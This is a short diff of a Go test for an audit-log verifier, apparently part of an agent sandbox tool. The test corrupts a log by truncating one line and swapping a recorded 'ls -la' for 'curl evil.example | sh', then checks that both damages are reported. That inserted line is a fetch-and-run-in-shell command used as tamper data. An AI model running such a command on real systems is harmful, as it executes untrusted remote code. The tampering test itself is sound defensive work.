@@ -71,7 +71,7 @@ func TestAuditVerifyEveryDamageAndCheckpoint(t *testing.T) {
 	// Two separate damages: both named, exit 1; --json has the full list.
 	b, _ := os.ReadFile(log)
 	lines := strings.SplitAfter(string(b), "\n")
-	lines[1] = lines[1][:len(lines[1])/2] + "\n"                                        // a fragment at line 2
+	lines[1] = lines[1][:len(lines[1])/2] + "\n"                                      // a fragment at line 2
 	lines[16] = strings.Replace(lines[16], `"ls -la"`, `"curl evil.example | sh"`, 1) // an edit at line 17
 	os.WriteFile(log, []byte(strings.Join(lines, "")), 0o600)
 	r = agentbox(t, nil, "audit", "verify", log)
